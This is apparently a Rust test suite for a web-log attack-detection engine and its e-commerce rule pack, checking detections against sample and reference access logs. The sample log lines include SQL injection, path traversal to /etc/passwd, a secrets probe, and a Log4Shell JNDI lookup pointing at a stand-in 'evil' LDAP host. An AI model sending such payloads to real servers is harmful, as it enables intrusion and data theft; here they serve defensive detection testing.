//! The e-commerce rule pack in `rules/ecommerce/`: every rule loads, and every
//! rule fires on its `tests/<stem>.match.jsonl` samples and stays silent on its
//! `tests/<stem>.nomatch.jsonl` samples (with the whole pack loaded, as in use).
//! On real logs written by others (`../shared/reference/weblogs/`): every
//! CVE-named CrowdSec hub file raises an alert of its class, the distributed
//! login campaign in `logparser/hackers-access.log` is found, and the mostly
//! benign `elastic-examples/apache_logs` stays quiet.

use std::collections::HashSet;
use std::path::{Path, PathBuf};

use bulwark_detect::{parse_line, CompileOptions, Detection, Engine, Formats, LogFormat, RuleSet};

fn pack_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/ecommerce")
}

fn pack_sources() -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut entries: Vec<_> = std::fs::read_dir(pack_dir())
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .collect();
    entries.sort();
    for p in entries {
        if p.extension().is_some_and(|x| x == "yml") {
            out.push((
                p.display().to_string(),
                std::fs::read_to_string(&p).unwrap(),
            ));
        }
    }
    out
}

fn engine(sources: &[(String, String)]) -> Engine {
    let (set, reports) = RuleSet::load(sources, CompileOptions::ecs());
    let bad: Vec<_> = reports.iter().filter(|r| !r.is_loaded()).collect();
    assert!(bad.is_empty(), "{bad:#?}");
    set.compile()
}

/// Runs a sample file three ways (fully parsed events, the engine's projected
/// parsing, and direct line processing) and checks all give the same detections.
fn run(sources: &[(String, String)], samples: &Path) -> Vec<Detection> {
    let text =
        std::fs::read_to_string(samples).unwrap_or_else(|e| panic!("{}: {e}", samples.display()));
    let mut full = engine(sources);
    let mut projected = engine(sources);
    let mut direct = engine(sources);
    let (mut a, mut b, mut c): (Vec<Detection>, Vec<Detection>, Vec<Detection>) =
        Default::default();
    for (i, line) in text.lines().enumerate() {
        if line.trim().is_empty() {
            continue;
        }
        let n = i as u64 + 1;
        let ev = parse_line(&LogFormat::JsonLines, line, n)
            .unwrap_or_else(|e| panic!("{}: {e}", samples.display()));
        a.extend(full.process(&ev));
        let ev = projected
            .parse_line(&LogFormat::JsonLines, line, n)
            .unwrap();
        b.extend(projected.process(&ev));
        c.extend(
            direct
                .process_line(&LogFormat::JsonLines, line, n, None)
                .unwrap(),
        );
    }
    let name = samples.display();
    assert_eq!(a, b, "projected parsing changed the result for {name}");
    assert_eq!(a, c, "direct line processing changed the result for {name}");
    a
}

/// Ids of every document in a rule file (a file may hold a correlation and its base rules).
fn ids_in(text: &str) -> HashSet<String> {
    text.lines()
        .filter_map(|l| l.strip_prefix("id: "))
        .map(|s| s.trim().to_string())
        .collect()
}

#[test]
fn pack_has_enough_rules_and_all_load() {
    let sources = pack_sources();
    assert!(sources.len() >= 35, "only {} rule files", sources.len());
    let (_, reports) = RuleSet::load(&sources, CompileOptions::ecs());
    assert!(reports.iter().all(|r| r.is_loaded()), "{reports:#?}");
}

#[test]
fn every_rule_behaves_as_its_samples_say() {
    let sources = pack_sources();
    let mut failures = Vec::new();
    for (path, text) in &sources {
        let stem = Path::new(path)
            .file_stem()
            .unwrap()
            .to_string_lossy()
            .to_string();
        let ids = ids_in(text);
        let tests = pack_dir().join("tests");
        let hits = |file: &str| {
            run(&sources, &tests.join(file))
                .into_iter()
                .filter(|d| ids.contains(&d.rule_id))
                .count()
        };
        let m = hits(&format!("{stem}.match.jsonl"));
        let n = hits(&format!("{stem}.nomatch.jsonl"));
        if m == 0 {
            failures.push(format!("{stem}: no detection on its match samples"));
        }
        if n != 0 {
            failures.push(format!("{stem}: {n} detections on its nomatch samples"));
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
}

/// Files holding only event rules (no correlation): every `match` line fires on
/// its own, so an encoded variant that only decoding reveals cannot hide behind
/// a raw line of the same file.
#[test]
fn every_match_line_of_an_event_rule_fires() {
    let sources = pack_sources();
    let mut failures = Vec::new();
    for (path, text) in &sources {
        if text.lines().any(|l| l.starts_with("correlation:")) {
            continue;
        }
        let stem = Path::new(path)
            .file_stem()
            .unwrap()
            .to_string_lossy()
            .to_string();
        let ids = ids_in(text);
        let samples = pack_dir().join("tests").join(format!("{stem}.match.jsonl"));
        let body = std::fs::read_to_string(&samples).unwrap();
        let mut e = engine(&sources);
        for (i, line) in body.lines().enumerate() {
            if line.trim().is_empty() {
                continue;
            }
            let ev = parse_line(&LogFormat::JsonLines, line, i as u64 + 1).unwrap();
            if !e.process(&ev).iter().any(|d| ids.contains(&d.rule_id)) {
                failures.push(format!("{stem}.match.jsonl:{}", i + 1));
            }
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
}

#[test]
fn hunting_a_combined_log_reports_malformed_lines_and_finds_attacks() {
    let log = r#"203.0.113.5 - - [20/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 512 "-" "Mozilla/5.0"
this line is not an access log line
203.0.113.6 - - [20/Nov/2026:10:00:01 +0000] "GET /products?id=1%27+OR+1=1-- HTTP/1.1" 200 99 "-" "Mozilla/5.0"
203.0.113.7 - - [20/Nov/2026:10:00:02 +0000] "GET /.env HTTP/1.1" 404 0 "-" "sqlmap/1.7"
203.0.113.8 - - [bad time] "GET / HTTP/1.1" 200 1 "-" "-"
203.0.113.9 - - [20/Nov/2026:10:00:03 +0000] "GET /download?file=../../etc/passwd HTTP/1.1" 200 1 "-" "Mozilla/5.0"
"#;
    let sources = pack_sources();
    let mut e = engine(&sources);
    let mut malformed = Vec::new();
    let mut titles = Vec::new();
    for (i, line) in log.lines().enumerate() {
        match parse_line(&LogFormat::combined(), line, i as u64 + 1) {
            Ok(ev) => titles.extend(e.process(&ev).into_iter().map(|d| d.rule_title)),
            Err(m) => malformed.push(m.line_no),
        }
    }
    assert_eq!(malformed, vec![2, 5]);
    for want in [
        "SQL Injection Attempt On The Storefront",
        "Probe For Secrets Or Source Files",
        "Vulnerability Scanner User Agent",
        "Path Traversal Attempt On The Storefront",
    ] {
        assert!(
            titles.iter().any(|t| t == want),
            "missing {want} in {titles:?}"
        );
    }
}

#[test]
fn sigmahq_web_rules_run_on_parsed_access_logs() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/sigmahq-web");
    let mut sources = Vec::new();
    for p in std::fs::read_dir(&dir).unwrap().flatten().map(|e| e.path()) {
        if p.extension().is_some_and(|x| x == "yml") {
            sources.push((
                p.display().to_string(),
                std::fs::read_to_string(&p).unwrap(),
            ));
        }
    }
    assert!(sources.len() >= 16);
    let mut e = engine(&sources);
    let log = [
        r#"203.0.113.6 - - [20/Nov/2026:10:00:01 +0000] "GET /products?id=1%20UNION%20SELECT%201,2 HTTP/1.1" 200 99 "-" "Mozilla/5.0""#,
        r#"203.0.113.9 - - [20/Nov/2026:10:00:03 +0000] "GET /download?file=../../../etc/passwd HTTP/1.1" 200 1 "-" "Mozilla/5.0""#,
        r#"203.0.113.10 - - [20/Nov/2026:10:00:04 +0000] "GET /?x=${jndi:ldap://evil:1389/Basic/Command/Base64/aWQ=} HTTP/1.1" 200 1 "-" "Mozilla/5.0""#,
        r#"203.0.113.11 - - [20/Nov/2026:10:00:05 +0000] "GET /products/42 HTTP/1.1" 200 1 "-" "Mozilla/5.0""#,
    ];
    let per_line: Vec<Vec<String>> = log
        .iter()
        .enumerate()
        .map(|(i, l)| {
            let ev = parse_line(&LogFormat::combined(), l, i as u64 + 1).unwrap();
            e.process(&ev).into_iter().map(|d| d.rule_title).collect()
        })
        .collect();
    assert!(
        per_line[0].iter().any(|t| t.contains("SQL Injection")),
        "{per_line:?}"
    );
    assert!(
        per_line[1].iter().any(|t| t.contains("Path Traversal")),
        "{per_line:?}"
    );
    assert!(
        per_line[2].iter().any(|t| t.contains("JNDI")),
        "{per_line:?}"
    );
    assert!(per_line[3].is_empty(), "{per_line:?}");
}

fn weblogs_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/reference/weblogs")
}

/// Hunts one real log file with the whole pack, reading it as `bulwark hunt`
/// does in auto mode (format detected from the first lines, per-line fallback).
/// Returns the detections with the 1-based line that raised each.
fn hunt_file(sources: &[(String, String)], rel: &str) -> Vec<(u64, Detection)> {
    let path = weblogs_dir().join(rel);
    let bytes = std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let text = String::from_utf8_lossy(&bytes);
    let lines: Vec<&str> = text.lines().collect();
    let formats = Formats::builtin();
    let head: Vec<&str> = lines.iter().take(50).copied().collect();
    let detected = formats
        .detect(&head)
        .unwrap_or_else(|| panic!("{rel}: no format detected"));
    let mut parser = formats.parser_with_fallback(detected.format.clone());
    let mut e = engine(sources);
    let mut out = Vec::new();
    for (i, l) in lines.iter().enumerate() {
        let n = i as u64 + 1;
        if let Ok(Some(ev)) = parser.parse(l, n) {
            out.extend(e.process(&ev).into_iter().map(|d| (n, d)));
        }
    }
    out
}

const PATH_TRAVERSAL: &str = "Path Traversal Attempt On The Storefront";
const APACHE_CGI: &str =
    "Apache HTTP Server Path Traversal To CGI Or Shell (CVE-2021-41773, CVE-2021-42013)";
const COMMAND: &str = "OS Command Injection Attempt";
const TEMPLATE: &str = "Template, Expression Or Lookup Injection Attempt";
const PHP: &str = "PHP Code Or Interpreter Option Injection Attempt";
const EXPLOIT: &str = "Request For A Known Exploit Endpoint";
const XSS: &str = "Cross-Site Scripting Attempt On The Storefront";
const SECRETS: &str = "Probe For Secrets Or Source Files";
const RFI: &str = "Remote Or Local File Inclusion Attempt";
const LOGIN_BURST: &str = "Rapid Login Attempts From One Source";

/// Every CVE-named web log in the CrowdSec hub tests, with the rules (by title)
/// whose class matches the attack; each file must raise at least one of them.
const CVE_FILES: &[(&str, &[&str])] = &[
    ("apache2/CVE-2022-26134.log", &[TEMPLATE]), // Confluence OGNL
    ("apache2/CVE-2022-35914.log", &[EXPLOIT]),  // GLPI htmLawed
    ("apache2/CVE-2022-42889.log", &[TEMPLATE]), // Text4Shell
    ("apache2/CVE-2022-44877.log", &[COMMAND]),  // CentOS Web Panel ${IFS}
    ("apache2/CVE-2022-46169.log", &[COMMAND, EXPLOIT]), // Cacti remote_agent
    ("apache2/CVE-2023-22515.log", &[EXPLOIT]),  // Confluence setup
    ("apache2/CVE-2023-22518.log", &[EXPLOIT]),  // Confluence restore
    ("apache2/CVE-2024-38475.log", &[PATH_TRAVERSAL]), // mod_rewrite %3f
    ("apache2/apache-cve-2021-41773.log", &[APACHE_CGI]),
    ("apache2/cve-2021-42013.log", &[APACHE_CGI]),
    ("apache2/netgear_rce.log", &[COMMAND]),
    ("apache2/zoneminder_cve-39285.log", &[XSS]), // `&lt;script` in the log message
    ("apache2/zoneminder_cve-39290.log", &[XSS]),
    ("apache2/zoneminder_cve-39291.log", &[XSS]),
    ("nginx/CVE-2017-9841.log", &[EXPLOIT]), // PHPUnit eval-stdin.php
    ("nginx/CVE-2019-18935.log", &[EXPLOIT]), // Telerik
    ("nginx/CVE-2022-40684.log", &[EXPLOIT]), // FortiOS admin API
    ("nginx/CVE-2022-41697.log", &[LOGIN_BURST]), // Ghost login enumeration
    ("nginx/CVE-2024-0012.log", &[EXPLOIT]), // PAN-OS
    ("nginx/CVE-2024-9474.log", &[EXPLOIT]), // PAN-OS
    ("nginx/CVE-2025-0108.log", &[EXPLOIT, PATH_TRAVERSAL]), // PAN-OS %252e%252e
    ("nginx/apache_log4j2_cve-2021-44228.log", &[TEMPLATE]),
    ("nginx/cve-2023-49103.log", &[EXPLOIT]), // ownCloud graphapi
    ("nginx/cve_2022_37042.log", &[EXPLOIT]), // Zimbra mboximport
    (
        "nginx/f5-big-ip-cve-2020-5902.log",
        &[PATH_TRAVERSAL, EXPLOIT],
    ),
    (
        "nginx/fortinet-cve-2018-13379.log",
        &[PATH_TRAVERSAL, EXPLOIT],
    ),
    ("nginx/grafana_cve-2021-43798.log", &[PATH_TRAVERSAL]),
    ("nginx/http-cve-probing.log", &[EXPLOIT]),
    ("nginx/jira_cve-2021-26086.log", &[EXPLOIT, SECRETS]),
    ("nginx/nginx-cve-2021-41773.log", &[APACHE_CGI]),
    (
        "nginx/pulse-secure-sslvpn-cve-2019-11510.log",
        &[PATH_TRAVERSAL, EXPLOIT],
    ),
    ("nginx/spring4shell_cve-2022-22965.log", &[TEMPLATE]),
    ("nginx/thinkphp-cve-2018-20062.log", &[PHP]),
    ("nginx/vmware-cve-2022-22954.log", &[TEMPLATE, EXPLOIT]),
    (
        "nginx/vmware-vcenter-vmsa-2021-0027.log",
        &[EXPLOIT, RFI, PATH_TRAVERSAL],
    ),
];

#[test]
fn every_cve_named_reference_log_raises_an_alert_of_its_class() {
    let sources = pack_sources();
    let mut missed = Vec::new();
    for (rel, want) in CVE_FILES {
        let rel = format!("crowdsec-hub-tests/{rel}");
        let found = hunt_file(&sources, &rel);
        if !found
            .iter()
            .any(|(_, d)| want.contains(&d.rule_title.as_str()))
        {
            let got: Vec<String> = found
                .iter()
                .map(|(n, d)| format!("{n}: {}", d.rule_title))
                .collect();
            missed.push(format!("{rel}: wanted one of {want:?}, got {got:?}"));
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
}

/// Encoded attacks that only decoding reveals (the raw line has none of the
/// rule's values): each must be caught, and flagged as matched after decoding.
#[test]
fn encoded_attacks_in_reference_logs_are_caught_after_decoding() {
    let sources = pack_sources();
    const SQLI: &str = "SQL Injection Attempt On The Storefront";
    // (file under crowdsec-hub-tests/, line, rule): what the raw line carries.
    let cases: &[(&str, u64, &str)] = &[
        // /%2fetc%2fpasswd
        ("nginx/nginx-http-path-traversal.log", 1, PATH_TRAVERSAL),
        // /%252E%252E%252Ffoo1
        ("nginx/nginx-http-path-traversal.log", 3, PATH_TRAVERSAL),
        // a=%20union%20all%20select%20
        ("nginx/nginx-http-sqli-probing.log", 2, SQLI),
        // a=benchmark%28
        ("nginx/nginx-http-sqli-probing.log", 5, SQLI),
        // a=%3Cimg
        ("nginx/nginx-http-xss-probing.log", 10, XSS),
        // search=%24%7Burl%3AUTF-8%3A...
        ("apache2/CVE-2022-42889.log", 1, TEMPLATE),
        // poller_id=%3btouch%20test.txt
        ("apache2/CVE-2022-46169.log", 9, COMMAND),
        // &lt;script src=...
        ("apache2/zoneminder_cve-39285.log", 4, XSS),
    ];
    let mut missed = Vec::new();
    for (rel, line, title) in cases {
        let rel = format!("crowdsec-hub-tests/{rel}");
        let found = hunt_file(&sources, &rel);
        let hit = found
            .iter()
            .find(|(n, d)| n == line && d.rule_title == *title);
        match hit {
            Some((_, d)) if d.matched_after_decoding => {}
            Some(_) => missed.push(format!("{rel}:{line}: {title} not flagged as decoded")),
            None => missed.push(format!("{rel}:{line}: no {title}")),
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
}

/// The campaign in `logparser/hackers-access.log`: 348 addresses POST to
/// `/login_form` over five days, one to a few times each, and the site answers
/// 200 to every attempt. Only the status-independent distributed rule sees it.
const DAILY_STUFFING: &str =
    "Distributed Credential Stuffing - Many Addresses On One Login Page In A Day";

#[test]
fn the_distributed_login_campaign_in_hackers_access_log_is_found() {
    let sources = pack_sources();
    let found = hunt_file(&sources, "logparser/hackers-access.log");
    let daily: Vec<&Detection> = found
        .iter()
        .map(|(_, d)| d)
        .filter(|d| d.rule_title == DAILY_STUFFING)
        .collect();
    assert!(!daily.is_empty(), "{found:#?}");
    for d in &daily {
        assert_eq!(
            d.group_key,
            vec![("url.path".to_string(), "/login_form".to_string())]
        );
        assert!(d.value.unwrap_or(0.0) >= 50.0, "{d:?}");
    }
    // Five days of campaign: at most one alert per day-long window under
    // "fire, then stay quiet for a window", a few more under "fire and reset".
    assert!(daily.len() <= 8, "{} alerts: {daily:#?}", daily.len());
}

/// `elastic-examples/apache_logs`: 10,000 lines of a 2015 personal site, benign
/// apart from a few scanners asking for `/wp-login.php` and `/administrator/`
/// (answered 404, which no rule counts). The pack must stay silent.
#[test]
fn the_pack_is_quiet_on_benign_apache_logs() {
    let sources = pack_sources();
    let found = hunt_file(&sources, "elastic-examples/apache_logs");
    let shown: Vec<String> = found
        .iter()
        .map(|(n, d)| format!("{n}: {} {:?}", d.rule_title, d.fields))
        .collect();
    assert!(shown.is_empty(), "{shown:#?}");
}

/// Text-format lines go straight into the matcher's field slots
/// (`Engine::process_with`); over every real log file, that gives exactly what
/// parsing each line into an event map and matching the map gives — with the
/// whole pack, and with a keyword rule, which reads every value of the line.
#[test]
fn text_lines_in_field_slots_match_like_event_maps() {
    let mut sources = pack_sources();
    sources.push((
        "keywords.yml".into(),
        "title: Keyword probe\nid: kw-probe\nlogsource: {category: webserver}\n\
         detection:\n  keywords: ['wp-login', 'etc/passwd', 'sqlmap']\n  condition: keywords\n"
            .into(),
    ));
    let formats = Formats::builtin();
    let (mut text_files, mut total) = (0, 0);
    for path in crate::weblogs::log_files() {
        let bytes = std::fs::read(&path).unwrap();
        let text = String::from_utf8_lossy(&bytes);
        let lines: Vec<&str> = text.lines().collect();
        let head: Vec<&str> = lines.iter().take(50).copied().collect();
        let Some(detected) = formats.detect(&head) else {
            continue;
        };
        if matches!(detected.format, LogFormat::Text(_)) {
            text_files += 1;
        }
        let mut direct_parser = formats.parser_with_fallback(detected.format.clone());
        let mut map_parser = formats.parser_with_fallback(detected.format.clone());
        let (mut direct, mut mapped) = (engine(&sources), engine(&sources));
        for (i, l) in lines.iter().enumerate() {
            let n = i as u64 + 1;
            let a = direct.process_with(&mut direct_parser, l, n, None);
            let b = match map_parser.parse(l, n) {
                Ok(Some(ev)) => Ok(Some(mapped.process(&ev))),
                Ok(None) => Ok(None),
                Err(e) => Err(e),
            };
            assert_eq!(
                a.as_ref().map_err(|e| &e.reason),
                b.as_ref().map_err(|e| &e.reason),
                "{}:{n}",
                path.display()
            );
            total += a.ok().flatten().map_or(0, |d| d.len());
        }
        assert_eq!(direct.stats(), mapped.stats(), "{}", path.display());
    }
    assert!(text_files >= 50, "{text_files} text-format files");
    assert!(total > 300, "{total} detections");
}
